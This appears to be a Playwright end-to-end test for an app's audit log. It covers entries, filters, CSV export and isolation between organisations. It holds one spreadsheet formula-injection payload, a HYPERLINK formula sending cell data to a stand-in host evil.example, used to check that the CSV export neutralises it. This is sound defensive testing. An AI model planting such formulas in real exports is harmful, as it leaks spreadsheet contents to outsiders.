import { randomUUID } from "node:crypto";
import { readFileSync } from "node:fs";
import type { Browser, Page } from "@playwright/test";
import type { IsolatedOrganization } from "@/db/fixtures";
import { applyThroughForm } from "./candidates";
import { createOrganization, expect, expectNoAxeViolations, SignInPage, test } from "./fixtures";

// Settings → Audit log: what members and candidates did shows with who, from where and when; filters
// narrow it, and the CSV export holds exactly the filtered entries, safe to open in a spreadsheet.

// A user agent an attacker controls, shaped as a spreadsheet formula.
const FORMULA_AGENT = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")";

async function signedIn(browser: Browser, org: IsolatedOrganization, role: keyof IsolatedOrganization["users"], userAgent?: string): Promise<Page> {
  const page = await (await browser.newContext(userAgent ? { userAgent } : {})).newPage();
  await new SignInPage(page).signInAs(org.users[role].email, org.password);
  return page;
}

const logRows = (page: Page) => page.getByRole("table", { name: /Audit log entries/ }).getByRole("row");
const rowOf = (page: Page, action: string) => logRows(page).filter({ has: page.getByText(action, { exact: true }) });

test.describe("the audit log", () => {
  test("shows what members and candidates did with actor and IP, filters it, and exports the filtered entries as CSV", async ({
    browser,
    request,
  }) => {
    test.setTimeout(150_000);
    const org = await createOrganization(request, { applicants: 1 });

    // A recruiter, on a browser whose user agent is a formula, signs in and downloads a resume.
    const recruiter = await signedIn(browser, org, "recruiter", FORMULA_AGENT);
    await recruiter.goto(`/candidates/${org.applicants[0]!.candidateId}`);
    const resume = recruiter.getByRole("region", { name: "Resume" }).getByRole("link", { name: "Download resume.txt" });
    await Promise.all([recruiter.waitForEvent("download"), resume.click()]);

    // A candidate applies and downloads their own data.
    const candidate = await (await browser.newContext()).newPage();
    await applyThroughForm(candidate, { orgSlug: org.organization.slug, jobSlug: org.job.slug, name: "Audrey Auditable", email: `audrey-${randomUUID()}@example.com` });
    await Promise.all([candidate.waitForEvent("download"), candidate.getByRole("link", { name: "Download my data (JSON)" }).click()]);

    // The admin changes a setting, then reads the log.
    const admin = await signedIn(browser, org, "admin");
    await admin.goto("/settings/reviews");
    await admin.getByRole("radio", { name: /^Never/ }).check();
    await admin.getByRole("button", { name: "Save" }).click();
    await expect(admin.getByRole("status").filter({ hasText: "Review settings saved." })).toBeVisible();

    await admin.goto("/settings");
    await admin.getByRole("link", { name: "Audit log" }).click();
    await expect(admin.getByRole("heading", { name: "Audit log", level: 1 })).toBeVisible();
    await expectNoAxeViolations(admin);

    const settings = rowOf(admin, "Organisation settings changed");
    await expect(settings).toContainText(org.users.admin.email);
    await expect(settings).toContainText("fields: scorecardVisibility");
    await expect(settings).toContainText("127.0.0.1");
    const download = rowOf(admin, "File downloaded");
    await expect(download).toContainText(org.users.recruiter.email);
    await expect(download).toContainText("File: Resume");
    await expect(download).toContainText("127.0.0.1");
    await expect(download).toContainText(FORMULA_AGENT);
    const exported = rowOf(admin, "Candidate data exported");
    await expect(exported).toContainText("Candidate");
    await expect(exported).not.toContainText("Audrey");
    await expect(rowOf(admin, "Signed in").filter({ hasText: org.users.recruiter.email })).toHaveCount(1);
    // Newest first: the admin's own settings change above the recruiter's sign-in.
    const actions = await logRows(admin).locator("td:nth-child(3) > span:first-child").allTextContents();
    expect(actions.indexOf("Organisation settings changed")).toBeLessThan(actions.indexOf("File downloaded"));

    // Filters: by action, by actor, by date.
    await admin.getByLabel("Action").selectOption({ label: "File downloaded" });
    await admin.getByRole("button", { name: "Filter" }).click();
    await expect(admin).toHaveURL(/action=file.downloaded/);
    await expect(logRows(admin)).toHaveCount(2); // the header row and the one download
    await expectNoAxeViolations(admin);

    await admin.getByRole("link", { name: "Clear filters" }).click();
    // The cleared page must be in place before the next filter is typed into it.
    await expect(admin).toHaveURL(/\/settings\/audit-log$/);
    await admin.getByLabel("Actor").fill(org.users.recruiter.email.slice(0, 14).toUpperCase());
    await admin.getByRole("button", { name: "Filter" }).click();
    await expect(logRows(admin).filter({ hasText: org.users.admin.email })).toHaveCount(0);
    await expect(rowOf(admin, "File downloaded")).toHaveCount(1);
    await expect(rowOf(admin, "Signed in")).toHaveCount(1);

    await admin.getByRole("link", { name: "Clear filters" }).click();
    // The cleared page must be in place before the next filter is typed into it.
    await expect(admin).toHaveURL(/\/settings\/audit-log$/);
    await admin.getByLabel("Target").selectOption({ label: "Candidate" });
    await admin.getByRole("button", { name: "Filter" }).click();
    await expect(rowOf(admin, "Candidate data exported")).toHaveCount(1);
    await expect(rowOf(admin, "File downloaded")).toHaveCount(0);

    const tomorrow = new Date(Date.now() + 86_400_000).toISOString().slice(0, 10);
    await admin.goto(`/settings/audit-log?from=${tomorrow}`);
    await expect(admin.getByRole("heading", { name: "No entries match these filters" })).toBeVisible();

    // The CSV of the recruiter's entries: exactly those, the formula neutralised.
    await admin.goto(`/settings/audit-log?actor=${encodeURIComponent(org.users.recruiter.email)}`);
    const [csvDownload] = await Promise.all([
      admin.waitForEvent("download"),
      admin.getByRole("link", { name: "Download CSV of the filtered entries" }).click(),
    ]);
    expect(csvDownload.suggestedFilename()).toMatch(new RegExp(`^audit-log-${org.organization.slug}-\\d{4}-\\d{2}-\\d{2}\\.csv$`));
    const csv = readFileSync((await csvDownload.path())!, "utf8");
    const lines = csv.trimEnd().split("\r\n");
    expect(lines[0]).toBe("Time (UTC),Actor,Action,Action code,Target type,Target,Target ID,IP address,User agent,Details");
    expect(lines).toHaveLength(3);
    expect(lines[1]).toContain(`,${org.users.recruiter.email},File downloaded,file.downloaded,File,Resume,`);
    expect(lines[1]).toContain(",127.0.0.1,");
    // The formula is text: an apostrophe first, inside RFC 4180 quotes (it holds quotes itself).
    expect(lines[1]).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")"`);
    expect(lines[2]).toContain(",Signed in,sign_in.succeeded,");
    expect(csv).not.toContain(org.users.admin.email);

    // Another organisation's admin sees none of it.
    const outsider = await signedIn(browser, await createOrganization(request), "admin");
    await outsider.goto("/settings/audit-log");
    await expect(outsider.getByText(org.users.recruiter.email)).toHaveCount(0);
  });
});
